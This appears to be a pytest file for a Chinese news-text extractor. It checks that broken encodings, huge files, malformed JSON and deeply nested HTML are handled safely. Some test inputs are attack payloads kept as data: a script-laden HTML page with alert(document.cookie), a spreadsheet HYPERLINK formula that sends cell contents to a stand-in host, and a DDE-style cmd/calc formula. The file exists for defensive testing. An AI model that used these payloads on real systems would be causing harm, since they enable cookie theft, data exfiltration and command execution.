"""Hostile and broken input: nothing lost, nothing crashes, nothing executes.

Every bad input is generated here (no binaries are committed). Each one gets
a documents row, ``ok`` or ``error`` with a one-line reason, and the rest of
the batch goes on: the whole suite runs as ONE batch through the command
line, and each input on its own through :func:`extractor.extract`.
"""
from __future__ import annotations

import csv
import json
import os
import time
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

import pandas as pd
import pytest

from conftest import SEED_000, SEED_004, SEEDS, encodable
import extractor
from extractor.cli import main
from extractor.document import Document

# Article paragraphs of a seed (no navigation or footer lines).
BODY = "\n".join(p for p in SEED_000.split("\n") if len(p) > 60)
HUGE_BYTES = 20_000_000


def _huge_line() -> bytes:
    """About 20 MB of article text on one line (UTF-8, cut at a character)."""
    unit = BODY.replace("\n", " ").encode("utf-8")
    data = (unit * (HUGE_BYTES // len(unit) + 1))[:HUGE_BYTES]
    return data.decode("utf-8", errors="ignore").encode("utf-8")


def _jsonl_lines() -> bytes:
    ok = json.dumps({"id": "j-surrogate\ud800", "text": "2月5日,社区志愿者\ud800上门\udfff测温。"})  # escaped lone surrogates
    raw_surrogate = json.dumps({"id": "j-raw", "text": "社区\ud800消杀"}, ensure_ascii=False).encode(
        "utf-8", "surrogatepass")                                                       # not UTF-8 at all
    last = json.dumps({"id": "j-last", "text": "3月1日,幸福社区开展消杀。"}, ensure_ascii=False)
    return b"\n".join([ok.encode(), b'{"id": "j-broken", "text": "unterminated', raw_surrogate, last.encode()])


@dataclass
class Case:
    """One bad input: the file, the rows it must give (doc_id, status, reason
    substring) and, optionally, a check of what an ok document produced."""

    filename: str
    make: Callable[[], bytes]
    rows: list[tuple[str, str, str]]
    check: Callable[[pd.Series, pd.DataFrame, pd.DataFrame], None] | None = field(default=None, repr=False)
    seconds: float = 10.0  # generous: tests share a busy machine; the point is "not stalled"


def _values(mentions: pd.DataFrame, kind: str) -> set[str]:
    return set(mentions.loc[mentions["field"] == kind, "value"])


def _same_as_utf8(text: str) -> Callable[[pd.Series, pd.DataFrame, pd.DataFrame], None]:
    """The document gives the same mentions as the same text in UTF-8."""
    def check(doc: pd.Series, mentions: pd.DataFrame, records: pd.DataFrame) -> None:
        ref = extractor.extract(Document(doc_id=doc["doc_id"], source="utf-8", raw=text))
        cols = ["field", "text", "value", "start", "end"]
        assert len(mentions) > 10
        assert mentions[cols].reset_index(drop=True).equals(ref.mentions[cols].reset_index(drop=True))
        assert doc["title"] == ref.documents.loc[0, "title"] and not pd.isna(doc["title"])
    return check


def _names_the_flag(doc: pd.Series, mentions: pd.DataFrame, records: pd.DataFrame) -> None:
    assert "--max-chars" in doc["error"] and doc["n_chars"] == 0 and len(mentions) == len(records) == 0


def _nul_check(doc: pd.Series, mentions: pd.DataFrame, records: pd.DataFrame) -> None:
    assert _values(mentions, "date") == {"XXXX-02-05"}
    assert not mentions["text"].str.contains("\x00").any()
    assert not records["sentence"].str.contains("\x00").any() and len(records)


def _salvaged(doc: pd.Series, mentions: pd.DataFrame, records: pd.DataFrame) -> None:
    assert "高埠社区" in _values(mentions, "community") and len(records) > 5


def _deep_html(doc: pd.Series, mentions: pd.DataFrame, records: pd.DataFrame) -> None:
    assert _values(mentions, "date") == {"XXXX-02-05"}
    assert set(records["activity_type"]) >= {"temperature_check"}
    assert not records["sentence"].str.contains("alert|p{}|<").any()


def _no_absurd_headcount(doc: pd.Series, mentions: pd.DataFrame, records: pd.DataFrame) -> None:
    assert _values(mentions, "headcount") == {"3"}        # the sane one in the same text
    assert (records["headcount"].isna() | (records["headcount"] == "3")).all()


def _nothing_from_numerals(doc: pd.Series, mentions: pd.DataFrame, records: pd.DataFrame) -> None:
    assert doc["n_chars"] == 100_000 and len(mentions) == 0


def _impossible_dates(doc: pd.Series, mentions: pd.DataFrame, records: pd.DataFrame) -> None:
    dates = mentions[mentions["field"] == "date"]
    assert set(dates["value"]) == {"XXXX-03-01"}          # only the possible one
    assert not dates["text"].str.contains("13月|45日|2月30日").any()


def _no_script(doc: pd.Series, mentions: pd.DataFrame, records: pd.DataFrame) -> None:
    cells = [str(v) for frame in (doc.to_frame().T, mentions, records) for v in frame.to_numpy().ravel()
             if not pd.isna(v)]
    for bad in ("alert", "document.cookie", "color:", "javascript", "onclick", "<"):
        assert not any(bad in c for c in cells), bad
    assert _values(mentions, "date") == {"XXXX-02-05"}


SCRIPT_PAGE = ("<html><head><title>社区防控</title><style>p{color:red}</style>"
               "<script>alert(document.cookie)</script></head><body>"
               "<p onclick=\"alert(1)\">2月5日,<a href=\"javascript:alert(2)\">社区</a>志愿者上门测体温。</p>"
               "<script type=\"text/javascript\">document.write('<p>3月9日 社区消杀</p>')</script>"
               "<noscript>请启用脚本 4月1日</noscript></body></html>")

CASES = [
    Case("gbk.txt", lambda: encodable(SEED_000, "gbk").encode("gbk"), [("gbk", "ok", "")],
         _same_as_utf8(encodable(SEED_000, "gbk"))),
    Case("big5.txt", lambda: encodable(SEED_004, "big5").encode("big5"), [("big5", "ok", "")],
         _same_as_utf8(encodable(SEED_004, "big5"))),
    Case("utf16le.txt", lambda: SEED_000.encode("utf-16-le"), [("utf16le", "ok", "")], _same_as_utf8(SEED_000)),
    Case("utf16be.txt", lambda: SEED_000.encode("utf-16-be"), [("utf16be", "ok", "")], _same_as_utf8(SEED_000)),
    Case("invalid-bytes.txt", lambda: bytes([0x81, 0x30, 0xff, 0xfe, 0x00]) * 3 + bytes(range(128, 256)) * 20,
         [("invalid-bytes", "error", "not valid text in any known encoding")]),
    Case("stray-byte.txt", lambda: SEED_000.encode()[:3000] + b"\xff" + SEED_000.encode()[3000:],
         [("stray-byte", "ok", "")], _salvaged),
    Case("cut-mid-character.txt", lambda: SEED_000.encode()[:-2], [("cut-mid-character", "ok", "")], _salvaged),
    Case("bom-stray-byte.txt", lambda: b"\xef\xbb\xbf" + SEED_000.encode()[:900] + b"\xc3" + SEED_000.encode()[900:],
         [("bom-stray-byte", "ok", "")], _salvaged),
    Case("image.txt", lambda: b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8, [("image", "error", "not text: a PNG image")]),
    Case("empty.txt", lambda: b"", [("empty", "error", "empty")]),
    Case("blank.txt", lambda: " \n\t\r\n\u3000\u00a0 \n".encode(), [("blank", "error", "empty")]),
    # Refused by --max-chars after linear work only (read, fold, measure):
    # about a second for its 7M characters on an idle core.
    Case("huge.txt", _huge_line, [("huge", "error", "too long")], _names_the_flag, seconds=30),
    Case("nul.txt", lambda: "2月5日,\x00社区志愿者\x00上门测体温。\x00".encode(), [("nul", "ok", "")], _nul_check),
    Case("lines.jsonl", _jsonl_lines, [("j-surrogate\ufffd", "ok", ""), ("lines-2", "error", "malformed JSON line"),
                                       ("lines-3", "error", "invalid utf-8 byte sequence"), ("j-last", "ok", "")]),
    Case("no-text.csv", lambda: b"id,body\nr1,2\xe6\x9c\x885\xe6\x97\xa5\n",
         [("no-text", "error", "CSV has no 'text' column (columns: id, body)")]),
    # Deeper than libxml2 goes: read by the tag-stripping fallback, which drops scripts too.
    Case("deep.html", lambda: ("<div>" * 10_000 + "<script>alert(1)</script>2月5日,社区志愿者上门测体温。"
                               "<style>p{}</style>" + "</div>" * 10_000).encode(),
         [("deep", "ok", "")], _deep_html),
    Case("absurd.txt", lambda: "社区组织99999999999999999999名志愿者上门,另有3名党员值守卡口。".encode(),
         [("absurd", "ok", "")], _no_absurd_headcount),
    Case("numerals.txt", lambda: ("一" * 100_000).encode(), [("numerals", "ok", "")], _nothing_from_numerals),
    Case("impossible-dates.txt", lambda: "13月45日,2月30日,3月1日,社区志愿者上门测体温。".encode(),
         [("impossible-dates", "ok", "")], _impossible_dates),
    Case("script.html", lambda: SCRIPT_PAGE.encode(), [("script", "ok", "")], _no_script),
    # A file name that is not UTF-8 (Python holds its byte as a lone surrogate).
    Case(os.fsdecode(b"name-\xff.txt"), lambda: "2月5日,社区消杀。".encode(), [("name-\ufffd", "ok", "")]),
]
CASE_IDS = [c.filename.encode("utf-8", "backslashreplace").decode() for c in CASES]


@pytest.fixture(scope="module")
def written(tmp_path_factory) -> tuple[Path, list[Case]]:
    """The bad inputs in one folder, and the cases this file system could hold
    (one that allows only UTF-8 file names refuses the last one)."""
    folder = tmp_path_factory.mktemp("hostile")
    cases = []
    for case in CASES:
        try:
            (folder / case.filename).write_bytes(case.make())
        except (OSError, UnicodeError):
            continue
        cases.append(case)
    return folder, cases


@pytest.fixture(scope="module")
def inputs(written) -> Path:
    return written[0]


def _rows_of(tables: extractor.Tables, case: Case) -> None:
    docs = tables.documents.set_index("doc_id")
    for doc_id, status, reason in case.rows:
        row = docs.loc[doc_id]
        error = "" if pd.isna(row["error"]) else row["error"]  # an ok row has no error: NA
        assert (row["status"], reason in error) == (status, True), (doc_id, error)
        assert "\n" not in error and len(error) <= 300
        assert "internal error" not in error
        if status == "ok":
            assert pd.isna(row["error"]) and row["n_chars"] > 0
    if case.check is not None:
        doc_id = case.rows[0][0]
        doc = docs.loc[doc_id].copy()
        doc["doc_id"] = doc_id
        case.check(doc, tables.mentions[tables.mentions["doc_id"] == doc_id],
                   tables.records[tables.records["doc_id"] == doc_id])


@pytest.mark.parametrize("case", CASES, ids=CASE_IDS)
def test_each_bad_input_alone(written, case):
    inputs, cases = written
    if case not in cases:
        pytest.skip(f"this file system cannot hold the file name {case.filename!r}")
    start = time.perf_counter()
    tables = extractor.extract(inputs / case.filename)
    assert time.perf_counter() - start < case.seconds
    assert len(tables.documents) == len(case.rows)
    _rows_of(tables, case)


def test_all_bad_inputs_in_one_batch(written, tmp_path, capsys):
    inputs, cases = written
    out = tmp_path / "out"
    assert main(["extract", str(inputs), "--out", str(out), "--workers", "2", "--quiet"]) == 0
    tables = extractor.read_tables(out)
    expected = [row for case in cases for row in case.rows]
    assert sorted(tables.documents["doc_id"]) == sorted(doc_id for doc_id, _, _ in expected)
    for case in cases:
        _rows_of(tables, case)
    errors = sum(status == "error" for _, status, _ in expected)
    assert f"{len(expected)} documents ({len(expected) - errors} ok, {errors} error)" in capsys.readouterr().err


def test_a_larger_limit_lets_a_long_document_through(tmp_path):
    text = (BODY.replace("\n", " ") + "\n") * 60          # ~ 60 paragraphs, one article
    (tmp_path / "long.txt").write_text(text, encoding="utf-8")
    small = extractor.extract(tmp_path / "long.txt", settings=extractor.Settings(max_chars=len(text) // 2))
    assert small.documents.loc[0, "status"] == "error" and "too long" in small.documents.loc[0, "error"]
    large = extractor.extract(tmp_path / "long.txt", settings=extractor.Settings(max_chars=len(text) * 2))
    assert large.documents.loc[0, "status"] == "ok" and len(large.mentions) > 100


# ---------------------------------------------------------------- exit codes

@pytest.mark.parametrize("files,code", [
    ({"good.txt": "2月5日,社区志愿者上门测体温。".encode(), "image.txt": b"\x89PNG\r\n\x1a\n"}, 0),   # batch ran
    ({"image.txt": b"\x89PNG\r\n\x1a\n", "empty.txt": b"", "blank.txt": b" \n"}, 1),               # nothing readable
    ({}, 1),                                                                                          # no input documents
])
def test_exit_code_of_a_batch(tmp_path, files, code):
    folder = tmp_path / "in"
    folder.mkdir()
    for name, data in files.items():
        (folder / name).write_bytes(data)
    assert main(["extract", str(folder), "--out", str(tmp_path / "out"), "--workers", "1", "--quiet"]) == code
    # Even when nothing could be read, every input is accounted for.
    docs = extractor.read_tables(tmp_path / "out").documents
    assert sorted(docs["doc_id"]) == sorted(Path(n).stem for n in files)


@pytest.mark.parametrize("args", [
    ["--max-chars", "0"], ["--max-chars", "many"], ["--max-seconds", "0"], ["--max-seconds", "-1"],
    ["--workers", "0"], ["--format", "xls"], ["--method", "magic"], ["--no-such-option"],
    ["--checkpoint-every", "0"],
])
def test_wrong_arguments_exit_2(tmp_path, args, capsys):
    with pytest.raises(SystemExit) as e:
        main(["extract", str(SEEDS), "--out", str(tmp_path / "out"), *args])
    assert e.value.code == 2
    assert "error" in capsys.readouterr().err
    assert not (tmp_path / "out").exists()


# ---------------------------------------------------------------- output safety

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def test_formula_injection_through_the_cli_is_guarded(tmp_path):
    item = {"id": '=HYPERLINK("http://x.example/?"&A1,"click")', "title": "@SUM(1+1)*cmd|' /C calc'!A0",
            "text": "+2月5日,社区志愿者上门测体温。\n-3月1日,幸福社区开展消杀。\n"
                    "=SUM(A1)*10 2月9日,社区党员值守卡口。\n@SUM(A1:A9) 社区志愿者配送物资。",
            "published": "2020-03-10"}
    (tmp_path / "in.jsonl").write_text(json.dumps(item, ensure_ascii=False) + "\n", encoding="utf-8")
    out = tmp_path / "out"
    assert main(["extract", str(tmp_path / "in.jsonl"), "--out", str(out), "--workers", "1", "--quiet"]) == 0
    guarded = 0
    for name in ("documents", "mentions", "records"):
        with open(out / f"{name}.csv", encoding="utf-8", newline="") as f:
            for row in csv.reader(f):
                for cell in row:
                    assert not cell.startswith(DANGEROUS), (name, cell)
                    guarded += cell.startswith("'")
    assert guarded >= 6
    t = extractor.read_tables(out)
    assert t.documents.loc[0, "doc_id"] == item["id"]
    assert t.documents.loc[0, "title"] == item["title"]
    assert set(t.mentions["doc_id"]) == {item["id"]}
    sentences = set(t.records["sentence"])
    for head in ("+2月5日", "-3月1日", "=SUM(A1)*10 2月9日", "@SUM(A1:A9)"):
        assert any(s.startswith(head) for s in sentences), head


def test_script_in_a_text_file_is_not_kept(tmp_path):
    """Markup in a .txt file is read as HTML too: its scripts are dropped."""
    (tmp_path / "page.txt").write_text(SCRIPT_PAGE, encoding="utf-8")
    t = extractor.extract(tmp_path / "page.txt")
    doc = t.documents.iloc[0].copy()
    _no_script(doc, t.mentions, t.records)
